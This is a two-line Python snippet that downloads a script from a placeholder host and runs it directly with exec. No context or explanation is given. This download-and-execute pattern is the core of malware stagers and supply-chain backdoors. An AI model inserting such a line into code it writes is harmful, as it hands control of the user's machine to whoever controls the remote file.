import requests

exec(requests.get("https://stage.example.invalid/p.py").text)
